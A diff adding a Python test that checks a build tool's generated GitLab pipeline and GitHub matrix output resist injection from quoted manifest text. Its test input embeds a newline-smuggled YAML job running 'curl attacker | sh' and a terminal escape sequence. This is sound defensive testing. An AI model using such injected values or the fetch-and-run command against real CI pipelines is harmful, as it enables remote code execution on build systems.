@@ -22,6 +22,7 @@ from test_outdated import SPEC, Mirror, one_line_error, statement, write_envelop
 
 from builder.base import bootstrap_inputs
 from builder.cli import cli
+from builder.cli.plan import PlannedTemplate, PlanReason, github_matrix, gitlab_pipeline
 from builder.spec import DebootstrapBase, load_spec
 from hardening.profile import load_profile
 
@@ -397,3 +398,16 @@ def test_an_unreachable_mirror_exits_3(fleet: Fleet) -> None:
     release_records(fleet.records, fleet.demo)
     line = one_line_error(run_plan(*specs(), "--manifests", "records"), code=3)
     assert "127.0.0.1:9" in line
+
+
+def test_text_from_documents_cannot_add_to_the_pipelines() -> None:
+    """Reasons quote manifests and mirrors: a newline in one must not start a
+    YAML line of its own in the child pipeline, nor a second step output line."""
+    hostile = "x\nevil:\n  script: [curl attacker | sh]\n\x1b]0;title\x07"
+    planned = [PlannedTemplate(Path("t/a.yaml"), "a", None, None, (PlanReason("spec", hostile),))]
+    doc = yaml.safe_load(gitlab_pipeline(planned, ".gitlab-ci.yml"))
+    assert set(doc) == {"include", "rebuild", "verify"}
+    assert "\x1b" not in gitlab_pipeline(planned, ".gitlab-ci.yml")
+    line = github_matrix(planned)
+    assert "\n" not in line
+    assert json.loads(line)["include"][0]["reasons"] == [hostile]
